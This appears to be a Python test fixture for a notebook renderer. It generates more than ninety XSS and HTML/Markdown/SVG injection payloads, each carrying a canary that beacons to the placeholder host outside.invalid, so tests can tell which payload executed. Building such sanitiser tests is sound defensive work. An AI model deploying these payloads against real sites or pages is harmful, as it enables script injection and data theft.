"""Texts that want to act where they are shown: over sixty kinds.

`{act}` is JavaScript that tells on itself, `{url}` an address of another machine. Each kind has a name of its own in
both, so that what acted is known by what it did.
"""

from __future__ import annotations

import os
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from typing import TypeVar

T = TypeVar("T")

#: a machine that nobody may ask
OUTSIDE = "http://outside.invalid"
#: the same in fewer letters
NEAR = "http://o.invalid"

_KINDS: dict[str, str] = {
    # ---- scripts
    "script": "<script>{act}</script>",
    "script from elsewhere": "<script src='{url}'></script>",
    "script in capitals": "<ScRiPt>{act}</sCrIpT>",
    "script never closed": "<script>{act}//",
    "script in halves": "<scr<script>ipt>{act}</scr</script>ipt>",
    "script with a slash": "<script/x>{act}</script>",
    "module script": "<script type=module>import '{url}'</script>",
    "script closing others": "</script><script>{act}</script>",
    "script in a comment": "<!--><script>{act}</script>-->",
    "script after a broken comment": "<!-- --!><script>{act}</script>",
    "script in CDATA": "<![CDATA[<script>{act}</script>]]>",
    "script closing a text area": "</textarea><script>{act}</script>",
    "script closing a title": "</title><script>{act}</script>",
    "script closing a style": "</style><script>{act}</script>",
    "script closing a pre": "</pre></code></td></table><script>{act}</script>",
    # ---- handlers
    "image that fails": '<img src=x onerror="{act}">',
    "image that fails, no blanks": "<img/src=x/onerror={act}>",
    "svg that loads": '<svg onload="{act}"></svg>',
    "body that loads": '<body onload="{act}">',
    "details that unfold": '<details open ontoggle="{act}">x</details>',
    "input that has the focus": '<input autofocus onfocus="{act}">',
    "video that fails": '<video><source onerror="{act}"></video>',
    "audio that fails": '<audio src=x onerror="{act}">',
    "marquee": '<marquee onstart="{act}">x</marquee>',
    "handler on hover": '<b onmouseover="{act}">x</b>',
    "handler on click": '<b onclick="{act}">x</b>',
    "animation handler": "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart=\"{act}\">x</b>",
    "attribute broken out of": '" onmouseover="{act}" autofocus onfocus="{act}" x="',
    "attribute broken out of, single": "' onmouseover='{act}' autofocus onfocus='{act}' x='",
    "tag broken out of": '"><img src=x onerror="{act}">',
    # ---- addresses that run
    "javascript link": '<a href="javascript:{act}">x</a>',
    "javascript link, with tabs": '<a href="java\tscript:{act}">x</a>',
    "javascript link, with entities": '<a href="&#106;avascript&colon;{act}">x</a>',
    "javascript link, with a control": '<a href="\x01javascript:{act}">x</a>',
    "data link": '<a href="data:text/html,<script>{act}</script>">x</a>',
    "vbscript link": '<a href="vbscript:{act}">x</a>',
    "javascript in a form": '<form action="javascript:{act}"><button>x</button></form>',
    "javascript in a button": '<button formaction="javascript:{act}">x</button>',
    "form elsewhere": "<form action='{url}'><input name=q><button>x</button></form>",
    # ---- frames and objects
    "frame with a script": '<iframe srcdoc="<script>{act}</script>"></iframe>',
    "frame of javascript": '<iframe src="javascript:{act}"></iframe>',
    "frame from elsewhere": "<iframe src='{url}'></iframe>",
    "object": "<object data='{url}'></object>",
    "embed": "<embed src='{url}'>",
    # ---- asking elsewhere without a script
    "image from elsewhere": "<img src='{url}'>",
    "image set from elsewhere": "<img srcset='{url} 1x'>",
    "picture from elsewhere": "<picture><source srcset='{url}'><img src=x></picture>",
    "poster from elsewhere": "<video poster='{url}'></video>",
    "input of an image": "<input type=image src='{url}'>",
    "background attribute": "<table background='{url}'><tr><td>x</td></tr></table>",
    "link to a style": "<link rel=stylesheet href='{url}'>",
    "link that connects": "<link rel=preconnect href='{url}'>",
    "link that loads early": "<link rel=preload as=image href='{url}'>",
    "import in a style": "<style>@import '{url}';</style>",
    "background in a style": "<style>*{{background-image:url({url})}}</style>",
    "background of an element": "<b style=\"background:url('{url}')\">x</b>",
    "background with escapes": "<b style=\"background:u\\72l('{url}')\">x</b>",
    "image-set in a style": "<b style=\"background:image-set('{url}' 1x)\">x</b>",
    "font from elsewhere": "<style>@font-face{{font-family:f;src:url({url})}}*{{font-family:f}}</style>",
    "list mark from elsewhere": '<li style="list-style:url({url})">x</li>',
    "cursor from elsewhere": '<b style="cursor:url({url}),auto">x</b>',
    "refresh": "<meta http-equiv=refresh content='0;url={url}'>",
    "base": "<base href='{url}/'><img src=x>",
    "link that pings": "<a href='#' ping='{url}'>x</a>",
    # ---- SVG and MathML
    "svg script": "<svg><script>{act}</script></svg>",
    "svg that uses elsewhere": "<svg><use href='{url}#a'/></svg>",
    "svg image": "<svg><image href='{url}'/></svg>",
    "svg image, old form": "<svg><image xlink:href='{url}'/></svg>",
    "svg with foreign content": "<svg><foreignObject><iframe srcdoc='<script>{act}</script>'></iframe></foreignObject></svg>",
    "svg link": '<svg><a xlink:href="javascript:{act}"><text y=9>x</text></a></svg>',
    "svg animation": '<svg><a><animate attributeName=href values="javascript:{act}"/><text y=9>x</text></a></svg>',
    "svg set": '<svg><set attributeName=onmouseover to="{act}"/></svg>',
    "svg in a style": '<svg><style><img src=x onerror="{act}"></style></svg>',
    "svg filter from elsewhere": "<svg><filter id=f><feImage href='{url}'/></filter><rect filter='url(#f)' width=9 height=9 /></svg>",
    "svg fill from elsewhere": '<svg><rect fill="url({url}#a)" width=9 height=9 /></svg>',
    "math that mutates": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={act}&gt;">',
    "math link": '<math><maction actiontype=statusline xlink:href="javascript:{act}">x</maction></math>',
    "form that mutates": '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={act} src=x>"></form>',
    "noscript that mutates": '<noscript><p title="</noscript><img src=x onerror={act}>"></noscript>',
    "template": "<template><script>{act}</script></template>",
    # ---- Markdown and other tongues
    "Markdown link": "[x](javascript:{act})",
    "Markdown link, with entities": "[x](javascript&colon;{act})",
    "Markdown image": "![x]({url})",
    "Markdown image with a title": '![x]({url} "x\\" onerror={act} y")',
    "Markdown reference": "[x][1]\n\n[1]: javascript:{act}",
    "Markdown autolink": "<javascript:{act}>",
    "Markdown with HTML": '**x** <img src=x onerror="{act}">\n\n<script>{act}</script>',
    "Markdown code that ends": "```\n</code></pre><script>{act}</script>\n```",
    "LaTeX": "$\\href{{javascript:{act}}}{{x}}$ \\(\\includegraphics{{{url}}}\\)",
    "plotly link": '<a href="javascript:{act}">x</a><b>y</b><br>',
    "JSON that ends": '"}}]</script><script>{act}</script>',
    # ---- terminals and eyes
    "terminal sequence": "\x1b]8;;javascript:{act}\x07x\x1b]8;;\x07\x1b[31m<script>{act}</script>",
    "text turned around": "\u202e<script>{act}</script>\u2066",
    "a nought": '<img src=x\x00 onerror="{act}"><scr\x00ipt>{act}</script>',
    "half a pair": "\ud800<script>{act}</script>",
}


@dataclass(frozen=True)
class Payload:
    """One text, and the name by which its doings are known."""

    kind: str
    mark: str
    text: str
    #: one that does less, and is whole where names are cut
    short: str


def some(of: Sequence[T], turn: int) -> Sequence[T]:
    """Return an eighth of `of`, another one each `turn`; all where NBFLOW_HOSTILE asks for all."""
    return of if os.environ.get("NBFLOW_HOSTILE") == "all" else of[turn % 8 :: 8]


def payloads() -> Iterator[Payload]:
    """Give all of them."""
    for number, (kind, text) in enumerate(_KINDS.items()):
        mark = f"k{number}"
        # without quotes and blanks, so that it stands anywhere
        act = f"(window.top.acted=`{mark}`,new(Image)().src=`{OUTSIDE}/ran-{mark}`)"
        short = text.format(act=f"(top.acted=`{mark}`)", url=f"{NEAR}/{mark}")
        yield Payload(kind, mark, text.format(act=act, url=f"{OUTSIDE}/{mark}"), short)
